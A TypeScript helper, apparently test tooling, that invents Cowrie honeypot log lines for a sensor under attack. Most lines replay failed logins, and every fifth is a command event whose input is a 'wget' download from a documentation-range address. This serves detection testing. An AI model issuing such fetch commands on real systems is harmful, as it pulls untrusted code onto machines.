import { Random } from '../random.js'
import { type Line, recordsOf, retold } from './cowrie-line.js'

/** One line in so many is a command that surely gives a tag; the rest are failed logins. */
const LINES_PER_COMMAND = 5

/** Lines as a sensor writes them within a moment. */
export interface SensorLines {
  readonly lines: readonly string[]
  /** Of the commands, each of which is in a session of its own. */
  readonly sessions: readonly string[]
}

/** Invents lines of a sensor, as one that is under attack writes them. */
export class SensorScript {
  readonly #random = new Random(20261126)
  readonly #command: Line
  readonly #failures: readonly Line[]
  #told = 0

  constructor(capture: string) {
    const { records } = recordsOf(capture)
    this.#command = records.find(({ eventid }) => eventid === 'cowrie.command.input')!
    this.#failures = records.filter(({ eventid }) => eventid === 'cowrie.login.failed')
  }

  /** @param time of all lines, in milliseconds since 1970 */
  write(count: number, time: number): SensorLines {
    const sessions: string[] = []
    const lines = Array.from({ length: count }, () => {
      const number = this.#told++
      const session = (0x300000000000 + number).toString(16)
      const source = `100.${64 + (number >> 16)}.${(number >> 8) & 255}.${number & 255}`
      const telling = { session, source, time: new Date(time) }
      if (number % LINES_PER_COMMAND > 0) return JSON.stringify(retold(this.#random.pick(this.#failures), telling))
      sessions.push(session)
      const input = `wget http://198.51.100.7/${session}`
      return JSON.stringify({ ...retold(this.#command, telling), input, message: `CMD: ${input}` })
    })
    return { lines, sessions }
  }
}
